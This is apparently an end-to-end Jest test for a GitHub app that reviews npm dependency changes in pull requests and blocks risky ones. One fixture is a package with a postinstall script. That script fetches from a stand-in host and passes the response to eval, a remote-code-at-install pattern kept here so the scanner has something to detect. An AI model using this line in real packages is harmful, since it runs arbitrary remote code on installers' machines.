import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { at, call } from '../github/tests/client.js';
import { packVersion, sri, type StandInPackage, type StandInVersion } from '../registry/index.js';
import { startWhole, type Whole } from './service.js';

// The whole way of a pull request: a signed webhook, the review of real archives, the check, the comments and the merge.
jest.setTimeout(120_000);

const inert = 'const https = require("node:https");\nhttps.get("https://example.invalid/", (answer) => answer.on("data", (part) => eval(String(part))));\n';
const plain = 'exports.parse = (text) => text.split(",");\n';
const version = (number: string, files: Record<string, string>, scripts?: Record<string, string>): StandInVersion => ({
  version: number, files, publishedAt: '2024-01-01T00:00:00.000Z', ...(scripts ? { manifest: { scripts } } : {}),
});
const parser: StandInPackage = {
  name: '@acme/parser',
  versions: [
    version('1.0.0', { 'index.js': plain }), version('1.0.1', { 'index.js': `${plain}exports.join = (parts) => parts.join(",");\n` }),
    version('1.1.0', { 'index.js': plain, 'setup.js': inert }, { postinstall: 'node setup.js' }), version('1.1.1', { 'index.js': `${plain}\n` }),
  ],
};
const socket: StandInPackage = { name: '@acme/socket', versions: [version('2.0.0', { 'index.js': plain }), version('2.0.1', { 'index.js': `${plain}\n` })] };
const advisory = {
  id: 'GHSA-aaaa-bbbb-cccc', modified: '2026-01-01T00:00:00Z', published: '2026-01-01T00:00:00Z', schema_version: '1.7.0', summary: 'Crashes on a long header',
  affected: [{ package: { ecosystem: 'npm', name: '@acme/socket' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '2.0.1' }] }] }],
  severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }],
};

const all = [parser, socket];
/** Manifest and lockfile with these dependencies, as npm writes them, addresses left out. */
function files(dependencies: Record<string, string>): Record<string, string> {
  const entries = Object.entries(dependencies).map(([name, number]): [string, object] => {
    const found = all.find((one) => one.name === name)!.versions.find((one) => one.version === number)!;
    const scripts = found.manifest?.['scripts'];
    return [`node_modules/${name}`, { version: number, integrity: sri(packVersion(name, found)), ...(scripts ? { hasInstallScript: true } : {}) }];
  });
  const root = { name: 'shop', version: '1.0.0', dependencies };
  const text = (value: object): string => `${JSON.stringify(value, null, 2)}\n`;
  return {
    'package.json': text({ ...root, private: true }),
    'package-lock.json': text({ name: 'shop', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': root, ...Object.fromEntries(entries) } }),
  };
}

let whole: Whole;
beforeAll(async () => {
  whole = await startWhole({ packages: all, advisories: [advisory], signatures: true });
  const { github, app } = whole;
  github.createOrganisation('acme', { ada: 'owner', lin: 'member' });
  await github.createRepository({ owner: 'acme', name: 'shop', collaborators: { lin: 'write' }, files: { ...files({ '@acme/parser': '1.0.0' }), 'README.md': '# shop\n' } });
  github.install(app.id, 'acme');
  github.requireCheck('acme/shop', 'mergewarden', app.id);
});
afterAll(async () => { await whole.close(); });

async function open(branch: string, changed: Record<string, string>): Promise<number> {
  await whole.github.push('acme/shop', { branch, from: 'main', by: 'lin', files: changed });
  const { number } = await whole.github.openPull('acme/shop', { head: branch, by: 'lin' });
  await whole.idle();
  return number;
}

const api = (operation: string) => call(whole.github, operation, { token: whole.github.userToken('ada') });
const get = async (path: string): Promise<readonly unknown[]> => (await api(`GET /repos/acme/shop${path}`)).json as readonly unknown[];
const pick = (items: readonly unknown[], ...keys: string[]): unknown[] => items.map((one) => Object.fromEntries(keys.map((key) => [key, at(one, key)])));

/** Everything that was published about a pull request, by its words: what must not change when nothing happens. */
async function published(number: number) {
  const head = whole.github.repository('acme/shop').pulls.get(number)!.head.sha;
  const runs = at((await api(`GET /repos/acme/shop/commits/${head}/check-runs?filter=all`)).json, 'check_runs') as readonly unknown[];
  return {
    checks: runs.map((run) => ({ id: at(run, 'id'), status: at(run, 'status'), conclusion: at(run, 'conclusion'), title: String(at(run, 'output', 'title')), annotations: at(run, 'output', 'annotations_count') })),
    comments: pick(await get(`/issues/${number}/comments`), 'id', 'body', 'updated_at') as { id: number; body: string }[],
    reviews: pick(await get(`/pulls/${number}/reviews`), 'id', 'state', 'body'),
    lines: pick(await get(`/pulls/${number}/comments`), 'id', 'path', 'line', 'body', 'updated_at') as { id: number; path: string; line: number | null; body: string }[],
  };
}
const merge = async (number: number) => {
  const reply = await api(`PUT /repos/acme/shop/pulls/${number}/merge`);
  return { status: reply.status, message: String(at(reply.json, 'message')) };
};

describe('a pull request', () => {
  test('without a dependency change passes; the check is all there is', async () => {
    const number = await open('readme', { 'README.md': '# the shop\n' });
    expect(await published(number)).toEqual({ checks: [expect.objectContaining({ conclusion: 'success', title: 'passed: no dependency changes' })], comments: [], reviews: [], lines: [] });
  });

  test('with an ordinary upgrade passes in silence, and may be merged', async () => {
    const number = await open('upgrade', files({ '@acme/parser': '1.0.1' }));
    expect(await published(number)).toEqual({ checks: [expect.objectContaining({ conclusion: 'success', title: 'passed: 1 change reviewed' })], comments: [], reviews: [], lines: [] });
    expect((await get('/rules/branches/main')).length).toBe(1);
    expect(at((await api(`GET /repos/acme/shop/pulls/${number}`)).json, 'mergeable_state')).toBe('clean');
  });

  test('that brings in a known vulnerability is blocked, with the fix named on its line', async () => {
    const number = await open('socket', files({ '@acme/parser': '1.0.0', '@acme/socket': '2.0.0' }));
    const { checks, comments, reviews, lines } = await published(number);
    expect(checks).toEqual([expect.objectContaining({ conclusion: 'failure', title: 'blocked: 1 finding' })]);
    expect([comments.length, reviews.length, lines.length]).toEqual([1, 1, 1]);
    expect(comments[0]!.body).toMatch(/GHSA-aaaa-bbbb-cccc.*2\.0\.1/s);
    expect(lines[0]).toMatchObject({ path: 'package.json', line: files({ '@acme/parser': '1.0.0', '@acme/socket': '2.0.0' })['package.json']!.split('\n').findIndex((line) => line.includes('@acme/socket')) + 1 });
    expect(await merge(number)).toEqual({ status: 405, message: expect.stringContaining('"mergewarden" is failing') });
  });

  test('that runs what it downloads at install is blocked; told again, re-run or after a restart nothing is doubled; mended it is settled and merged', async () => {
    const number = await open('parser', files({ '@acme/parser': '1.1.0' }));
    const first = await published(number);
    expect(first.checks).toEqual([expect.objectContaining({ conclusion: 'failure', title: 'blocked: 1 finding' })]);
    expect([first.comments.length, first.reviews.length]).toEqual([1, 1]);
    expect(first.comments[0]!.body).toContain('[remote-code]');
    expect(first.lines.filter(({ body }) => body.includes('**blocks**')).map(({ body }) => /\[([a-z-]+)\]/.exec(body)?.[1])).toEqual(['remote-code']);
    for (const id of ['install-script', 'dynamic-code', 'network-access']) {
      expect(first.comments[0]!.body).toContain(`[${id}]`);
      expect(first.lines.filter(({ body }) => body.includes(`[${id}]`))).toHaveLength(1);
    }
    expect((await merge(number)).status).toBe(405);

    const { github } = whole;
    const told = github.deliveries.list().filter((one) => ['pull_request', 'push', 'check_suite'].includes(one.event)).map((one) => one.id);
    for (const id of told) github.deliveries.redeliver(id);
    await whole.idle();
    expect(await published(number)).toEqual(first);

    await whole.stop();
    await whole.start();
    await whole.idle();
    for (const id of told) github.deliveries.redeliver(id);
    await whole.idle();
    expect(await published(number)).toEqual(first);

    github.rerequestRun('acme/shop', Number(first.checks[0]!.id), 'ada');
    await whole.idle();
    const again = await published(number);
    expect({ ...again, checks: [] }).toEqual({ ...first, checks: [] });
    expect(again.checks[0]).toMatchObject({ conclusion: 'failure', title: first.checks[0]!.title });

    await github.push('acme/shop', { branch: 'parser', by: 'lin', files: files({ '@acme/parser': '1.1.1' }) });
    await whole.idle();
    const mended = await published(number);
    expect(mended.checks).toEqual([expect.objectContaining({ conclusion: 'success', title: 'passed: 1 change reviewed' })]);
    expect([mended.comments.map((one) => one.id), mended.reviews.length, mended.lines.map((one) => one.id)]).toEqual([first.comments.map((one) => one.id), 1, first.lines.map((one) => one.id)]);
    expect(mended.comments[0]!.body).toContain('Nothing is left to say');
    for (const { body } of mended.lines) expect(body).toMatch(/~~.+~~ resolved in [0-9a-f]{12}/);
    expect(await merge(number)).toEqual({ status: 200, message: 'Pull Request successfully merged' });
    await whole.idle();
  });

  test('everything was asked and answered as GitHub describes, and nothing went wrong on the way', () => {
    expect(whole.github.problems).toEqual([]);
    expect(whole.complaints.filter((one) => !one.includes('maxPoolSize'))).toEqual([]);
  });
});
